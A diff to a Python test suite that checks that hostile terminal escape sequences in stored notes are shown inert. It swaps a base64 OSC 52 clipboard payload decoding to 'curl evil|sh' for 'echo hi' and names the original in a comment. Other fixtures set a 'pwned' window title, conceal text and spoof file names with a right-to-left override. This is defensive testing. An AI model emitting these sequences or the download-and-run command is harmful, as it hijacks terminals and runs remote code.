@@ -476,7 +476,9 @@ def test_the_candidate_class_holds_every_escaped_character() -> None:
 
 CSI_CLEAR = "\x1b[2J"
 CONCEAL = "\x1b[8m"
-OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+#: A clipboard write of "echo hi" (base64): one of "curl evil|sh" is itself withheld now, as
+#: a decoded download-and-run (tests/test_injection_classes.py), and shows nothing here.
+OSC52 = "\x1b]52;c;ZWNobyBoaQ==\x07"
 TITLE = "\x1b]0;pwned\x1b\\"
 BIDI = "\u202e"
 
@@ -514,12 +516,10 @@ def test_recall_and_explain_show_sequences_and_obey_none(hostile_home) -> None:
     assert res.exit_code == 0
     assert_inert(res.stdout)
     assert "the deploy cluster \\x1b[2Jis staging\\x1b[8m hidden" in res.stdout
-    assert (
-        "deploy notes \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 and \\x1b]0;pwned\\x1b\\ title" in res.stdout
-    )
+    assert "deploy notes \\x1b]52;c;ZWNobyBoaQ==\\x07 and \\x1b]0;pwned\\x1b\\ title" in res.stdout
     assert "<U+202E>txt.exe" in res.stdout
     assert f"{h}/skills/dep<U+202E>loy.md" in res.stdout
-    assert "run \\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in res.stdout
+    assert "run \\x1b]52;c;ZWNobyBoaQ==\\x07" in res.stdout
     for args in (["explain", "--plain"], ["explain", "--plain", "--why-not"]):
         res = run(*args, "deploy cluster", "--home", h)
         assert res.exit_code == 0, res.stdout
@@ -619,7 +619,7 @@ def test_report_tables_and_html_show_sequences(hostile_home) -> None:
     assert_inert(res.stdout + res.stderr)
     page = render_html(build_report(Memory(hostile_home)))
     assert_inert(page)
-    assert "deploy notes \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 and" in page
+    assert "deploy notes \\x1b]52;c;ZWNobyBoaQ==\\x07 and" in page
     assert "&lt;U+202E&gt;txt.exe" in page
 
 
